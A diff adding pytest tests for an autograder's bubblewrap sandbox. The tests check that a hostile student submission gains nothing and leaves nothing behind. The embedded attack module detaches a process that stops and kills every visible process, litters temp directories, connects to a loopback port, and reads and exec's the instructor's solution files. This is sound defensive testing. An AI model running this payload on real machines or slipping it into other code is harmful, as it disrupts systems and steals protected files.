@@ -1,0 +1,243 @@
+"""A hostile student in a class: it must not reach the machine, the grader or its classmates.
+
+The attacker's module is a plain wrong ex1 (rnn_cell returns zeros) that, on
+import, also:
+
+- detaches a process (double fork + setsid) that tries to SIGSTOP and SIGKILL
+  every process it can see, for a minute;
+- leaves files in /dev/shm, /tmp and /var/tmp;
+- connects to a loopback port the test listens on;
+- reads the kit's solutions/ and a second checkout of the kit, and takes their
+  code if it can (which would give it full marks).
+
+It is graded alone and in ``batch --jobs 2`` beside a correct, a blank, a plain
+wrong and a symlinking classmate. Classmates keep their scores, the attacker
+scores no more than the plain wrong one, nothing of it survives or is left
+behind, and no loopback connection is made.
+
+The attack would stop and kill the machine's processes where nothing isolates
+it, so these tests run where bubblewrap is in force (CI installs it).
+"""
+import os
+import shutil
+import socket
+import threading
+from pathlib import Path
+
+import pytest
+
+from autograder.authoring import render
+from autograder.sandbox import isolation
+
+from .conftest import KIT, SOLUTIONS, checks_by_name, grade, run_cli, write_submission
+
+pytestmark = [pytest.mark.skipif(isolation.mode() != "bwrap", reason="needs bubblewrap: the attack is real"),
+              pytest.mark.xdist_group("hostile_class")]
+SOLUTION = (SOLUTIONS / "ex1_myrnn" / "myrnn.py").read_text()
+WRONG = render(SOLUTION, regions={"rnn_cell": "return torch.zeros(x_t.shape[0], W_hh.shape[0], dtype=x_t.dtype)"})
+MARK = "hostile31337"
+SCRATCH = [Path("/dev/shm"), Path("/tmp"), Path("/var/tmp")]
+
+ATTACK = '''
+import ctypes as _ct, os as _os, signal as _sig, socket as _so, time as _t
+def _attack(port, secrets):
+    for folder in ("/dev/shm", "/tmp", "/var/tmp"):
+        try:
+            with open(_os.path.join(folder, "MARK-file"), "w") as f:
+                f.write("x" * 100_000)
+        except OSError:
+            pass
+    try:
+        _so.create_connection(("127.0.0.1", port), timeout=1).sendall(b"MARK")
+    except OSError:
+        pass
+    stolen = None
+    for path in secrets:
+        try:
+            stolen = open(path).read()
+            break
+        except OSError:
+            pass
+    mine = {_os.getpid()}
+    p = _os.getpid()
+    while p > 1:  # spare our own worker, so that this module is graded at all
+        try:
+            p = int(open(f"/proc/{p}/stat").read().rsplit(")", 1)[1].split()[1])
+        except (OSError, ValueError, IndexError):
+            break
+        mine.add(p)
+    if _os.fork() == 0:
+        _os.setsid()
+        if _os.fork() == 0:
+            _ct.CDLL(None).prctl(15, b"MARK")  # PR_SET_NAME: find it afterwards
+            end = _t.time() + 60
+            while _t.time() < end:
+                for entry in _os.listdir("/proc"):
+                    if entry.isdigit() and int(entry) not in mine and int(entry) != _os.getpid():
+                        for s in (_sig.SIGSTOP, _sig.SIGKILL):
+                            try:
+                                _os.kill(int(entry), s)
+                            except OSError:
+                                pass
+                _t.sleep(0.05)
+            _os._exit(0)
+        _os._exit(0)
+    _os.wait()
+    return stolen
+_STOLEN = _attack(PORT, SECRETS)
+if _STOLEN:  # take the reference's code: full marks, if the sandbox let us read it
+    exec(_STOLEN)
+'''.replace("MARK", MARK)
+
+
+def leftovers() -> list[str]:
+    found = [str(f / f"{MARK}-file") for f in SCRATCH if (f / f"{MARK}-file").exists()]
+    for pid in filter(str.isdigit, os.listdir("/proc")):
+        try:
+            if Path(f"/proc/{pid}/comm").read_text().strip() == MARK:
+                found.append(f"process {pid}")
+        except OSError:
+            pass
+    return found
+
+
+@pytest.fixture
+def listener():
+    """A loopback port of the grader's machine; records any connection made to it."""
+    server = socket.socket()
+    server.bind(("127.0.0.1", 0))
+    server.listen()
+    server.settimeout(0.2)
+    accepted, stop = [], threading.Event()
+
+    def serve():
+        while not stop.is_set():
+            try:
+                accepted.append(server.accept()[0].recv(100))
+            except OSError:
+                continue
+
+    thread = threading.Thread(target=serve, daemon=True)
+    thread.start()
+    yield server.getsockname()[1], accepted
+    stop.set()
+    thread.join()
+    server.close()
+
+
+@pytest.fixture
+def second_checkout(tmp_path_factory):
+    """Another copy of the kit with solutions/, readable by everyone, elsewhere on the machine."""
+    other = tmp_path_factory.mktemp("other-checkout")
+    shutil.copytree(SOLUTIONS / "ex1_myrnn", other / "solutions" / "ex1_myrnn")
+    for p in [other, *other.rglob("*")]:
+        os.chmod(p, 0o755 if p.is_dir() else 0o644)
+    return other / "solutions" / "ex1_myrnn" / "myrnn.py"
+
+
+def attacker_source(port: int, secrets: list[Path]) -> str:
+    attack = ATTACK.replace("PORT", str(port)).replace("SECRETS", repr([str(s) for s in secrets]))
+    return WRONG.replace("from torch import nn\n", "from torch import nn\n" + attack, 1)
+
+
+def test_an_attacker_graded_alone_gains_nothing_and_leaves_nothing(tmp_path, listener, second_checkout, fast_course):
+    port, accepted = listener
+    secrets = [SOLUTIONS / "ex1_myrnn" / "myrnn.py", second_checkout]
+    checks = ["rnn_cell_values", "matches_nn_rnn", "gradients"]
+    wrong = grade(write_submission(tmp_path / "wrong", "ex1_myrnn", {"myrnn.py": WRONG}),
+                  exercise="ex1_myrnn", checks=checks, course=fast_course)
+    attacker = grade(write_submission(tmp_path / "attacker", "ex1_myrnn",
+                                      {"myrnn.py": attacker_source(port, secrets)}),
+                     exercise="ex1_myrnn", checks=checks, course=fast_course)
+    assert attacker["score"] <= wrong["score"]
+    assert checks_by_name(attacker, "ex1_myrnn")["matches_nn_rnn"]["status"] == "passed"  # it was graded
+    assert accepted == [], "the attacker reached the grader's loopback"
+    assert leftovers() == []
+
+
+def test_a_class_keeps_its_grades_beside_an_attacker(tmp_path, listener, second_checkout, fast_course):
+    port, accepted = listener
+    subs, out = tmp_path / "class", tmp_path / "out"
+    write_submission(subs / "amy_correct", "ex1_myrnn", {"myrnn.py": SOLUTION})
+    write_submission(subs / "bob_blank", "ex1_myrnn",
+                     {"myrnn.py": (KIT / "exercises" / "ex1_myrnn" / "myrnn.py").read_text()})
+    write_submission(subs / "cat_wrong", "ex1_myrnn", {"myrnn.py": WRONG})
+    write_submission(subs / "dan_attacker", "ex1_myrnn",
+                     {"myrnn.py": attacker_source(port, [SOLUTIONS / "ex1_myrnn" / "myrnn.py", second_checkout])})
+    (subs / "eve_link" / "ex1_myrnn").mkdir(parents=True)
+    (subs / "eve_link" / "ex1_myrnn" / "myrnn.py").symlink_to(SOLUTIONS / "ex1_myrnn" / "myrnn.py")
+
+    proc = run_cli("--course", fast_course, "batch", subs, "--out", out, "--exercise", "ex1_myrnn",
+                   "--jobs", "2", "--quiet", timeout=900)
+    assert proc.returncode == 0, proc.stdout + proc.stderr
+    rows = {line.split(",")[0]: line.split(",") for line in (out / "gradebook.csv").read_text().splitlines()[1:]}
+    total = {s: float(r[-3]) for s, r in rows.items()}
+    assert total["amy_correct"] == 30 and total["bob_blank"] == 0
+    assert total["dan_attacker"] <= total["cat_wrong"] < 30
+    assert total["eve_link"] == 0 and "symbolic link" in (out / "reports" / "eve_link.html").read_text()
+    assert all(r[-1] == "graded" for r in rows.values()), rows
+    blank = (out / "reports" / "bob_blank.html").read_text()
+    assert "not implemented yet" in blank and "killed" not in blank
+    assert accepted == [], "the attacker reached the grader's loopback"
+    assert leftovers() == []
+
+
+NON_ROOT = """set -e
+mkdir -p "$STASH" && mount --bind "$PYROOT" "$STASH"
+mount -t tmpfs -o mode=755 tmpfs "$CLOSED" && mkdir -p "$PYROOT" && mount --bind "$STASH" "$PYROOT"
+exec setpriv --reuid=4242 --regid=4242 --clear-groups env HOME="$WORK" "$PYTHON" -m autograder grade "$SUB" \
+    --exercise ex1_myrnn --check rnn_cell_values --check matches_nn_rnn --json "$WORK/result.json"
+"""
+
+
+@pytest.mark.skipif(os.geteuid() != 0 or not shutil.which("setpriv") or not shutil.which("unshare"),
+                    reason="drops to an ordinary user from root")
+@pytest.mark.parametrize("who", ["reference", "reader"])
+def test_an_instructor_who_is_not_root_gets_the_same_isolation(who, request):
+    """The grader run by uid 4242: bubblewrap in a user namespace; the kit stays out of the student's sight.
+
+    This machine's Python lives under /root (0700), so the test first gives the
+    ordinary user a way to it: a private mount namespace where /root is an
+    enterable tmpfs with only that Python bound back. Everything else is as an
+    instructor without root would have it; the kit's files are world-readable.
+    """
+    import subprocess
+    import sys
+
+    python_root = Path(sys.base_prefix).resolve()
+    closed = next((p for p in python_root.parents if p != Path("/") and not p.stat().st_mode & 0o001), None)
+    source = SOLUTION if who == "reference" else SOLUTION.replace("from torch import nn\n", f"""from torch import nn
+try:
+    LEAK = open({str(SOLUTIONS / 'ex1_myrnn' / 'myrnn.py')!r}).read()
+except OSError as exc:
+    LEAK = None
+""", 1).replace("def rnn_cell(", "def _unused(", 1) + """
+
+def rnn_cell(x_t, h_prev, W_xh, W_hh, b):
+    if LEAK is None:
+        raise RuntimeError("BLOCKED")
+    namespace = {}
+    exec(LEAK, namespace)
+    return namespace["rnn_cell"](x_t, h_prev, W_xh, W_hh, b)
+"""
+    import tempfile
+    tmp_path = Path(tempfile.mkdtemp(prefix="non-root-instructor-", dir="/tmp"))  # pytest's own is 0700
+    request.addfinalizer(lambda: shutil.rmtree(tmp_path, ignore_errors=True))
+    work = tmp_path / "work"
+    sub = write_submission(work / "sub", "ex1_myrnn", {"myrnn.py": source})
+    for p in [tmp_path, *tmp_path.rglob("*")]:
+        os.chmod(p, 0o777 if p.is_dir() else 0o644)
+    env = {**os.environ, "STASH": str(tmp_path / "stash"), "PYROOT": str(python_root), "WORK": str(work),
+           "CLOSED": str(closed or python_root.parent), "PYTHON": sys.executable, "SUB": str(sub)}
+    script = NON_ROOT if closed else NON_ROOT.replace('mount -t tmpfs', ': mount -t tmpfs')
+    proc = subprocess.run(["unshare", "-m", "sh", "-c", script], cwd=KIT, env=env, capture_output=True, text=True,
+                          timeout=300)
+    assert proc.returncode == 0, proc.stdout + proc.stderr
+    assert "isolation: bubblewrap" in proc.stderr and "a uid per worker" not in proc.stderr
+    import json
+    checks = checks_by_name(json.loads((work / "result.json").read_text()), "ex1_myrnn")
+    if who == "reference":
+        assert all(t["status"] == "passed" for t in checks.values()), checks
+    else:
+        cell = checks["rnn_cell_values"]
+        assert cell["score"] == 0 and "BLOCKED" in cell["output"], cell
